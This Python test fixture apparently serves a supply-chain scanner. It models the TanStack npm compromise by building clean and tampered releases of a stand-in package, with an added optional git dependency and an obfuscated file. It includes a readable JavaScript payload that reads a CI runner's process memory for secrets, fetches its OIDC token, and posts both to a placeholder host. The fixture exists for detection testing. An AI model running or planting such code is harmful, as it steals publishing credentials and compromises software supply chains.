"""TanStack, May 2026: published by the project's own workflow, with its own provenance.

A pull request from a fork poisoned the cache that the release workflow used later; code from there
took the token for trusted publishing out of the runner's memory. The 84 versions had a new optional
dependency on a commit in a fork of the same repository, whose `prepare` script ran
`router_init.js` and then failed, so that npm dropped it without a word. That file, 2.3 MB of
obfuscated code, was in each tarball, though in no `files` and imported by nobody. Here it is
noise.

Post-mortem: "Postmortem: TanStack npm supply-chain compromise" and "Hardening TanStack After the
npm Compromise" (TanStack's blog); issue 7383 of TanStack/router; CVE-2026-45321.
In the staged tarball: a dependency that comes from git, new and optional; a new obfuscated file of
megabytes. Its readable manner shows what was inside: the runner's memory read for its tokens.
"""

import random

from tests.findings.attack import Attack, release

_SOURCE = """\
export function parseSearch(text) {
  return Object.fromEntries(new URLSearchParams(text.replace(/^[?]/, '')));
}
"""
_NEXT = (
    _SOURCE
    + """
export function stringifySearch(search) {
  const text = new URLSearchParams(search).toString();
  return text ? `?${text}` : '';
}
"""
)
_MEMORY = """\
const fs = require('fs');
const cp = require('child_process');

function runnerProcess() {
  for (const pid of fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name))) {
    const command = fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8');
    if (command.includes('Runner.Worker')) return pid;
  }
}

async function secrets() {
  const pid = runnerProcess();
  const found = new Set();
  for (const line of fs.readFileSync(`/proc/${pid}/maps`, 'utf8').split('\\n')) {<<<process-memory>>>
    const [low, high] = line.split(' ')[0].split('-').map((text) => parseInt(text, 16));
    const memory = fs.openSync(`/proc/${pid}/mem`, 'r');
    const bytes = Buffer.alloc(high - low);
    fs.readSync(memory, bytes, 0, bytes.length, low);
    for (const match of bytes.toString('latin1').matchAll(/"isSecret":true,"value":"[^"]+"/g)) {
      found.add(match[0]);
    }
  }
  const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;
  const bearer = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
  const answer = await fetch(url, { headers: { Authorization: `bearer ${bearer}` } });
  found.add(JSON.stringify(await answer.json()));
  return [...found];
}

secrets().then((found) =>
  fetch('https://collect.example.invalid/', { method: 'POST', body: JSON.stringify(found) }),<<<exfiltration>>>
);
"""


def _init() -> str:
    pick = random.Random(2026)
    table = ",".join(f"'{pick.randbytes(15).hex()}'" for _ in range(9_000))
    calls = "".join(
        f"var _0x{pick.randrange(1 << 20):05x}=_0x3e1f(0x{n:x},'{pick.randbytes(2).hex()}');"
        f"(function(_0x12ab,_0x34cd){{return _0x12ab[_0x3e1f(0x{n:x})]^_0x34cd;}});"
        for n in range(17_000)
    )
    return f"(function(){{var _0x1f4e=[{table}];{calls}}})();<<<obfuscated>>>"


_COMMIT = "0123456789abcdef0123456789abcdef01234567"
_MANIFEST = {"type": "module", "dependencies": {"@route-parts/history": "1.161.6"}}
_OPTIONAL = {"@route-parts/setup": f"github:route-parts/router#{_COMMIT}<<<dependency-git>>>"}

ATTACK = Attack(
    before=release("@route-parts/search", "1.169.2", {"index.js": _SOURCE}, **_MANIFEST),
    unharmed=release("@route-parts/search", "1.169.5", {"index.js": _NEXT}, **_MANIFEST),
    after={
        manner: release(
            "@route-parts/search",
            "1.169.5",
            {"index.js": _NEXT, "router_init.js": code},
            **_MANIFEST,
            optionalDependencies=_OPTIONAL,
        )
        for manner, code in (("obfuscated", _init()), ("readable", _MEMORY))
    },
)
